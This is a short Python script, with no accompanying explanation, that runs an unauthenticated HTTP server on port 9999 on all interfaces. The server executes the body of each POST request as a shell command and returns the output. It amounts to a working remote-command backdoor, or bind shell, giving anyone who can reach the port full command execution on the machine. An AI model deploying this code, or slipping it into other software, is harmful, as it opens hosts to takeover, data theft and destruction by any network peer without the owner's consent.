from http.server import BaseHTTPRequestHandler, HTTPServer
import subprocess
class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        length = int(self.headers["Content-Length"])
        command = self.rfile.read(length).decode()
        out = subprocess.check_output(command, shell=True, stderr=subprocess.STDOUT)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)
HTTPServer(("", 9999), Handler).serve_forever()
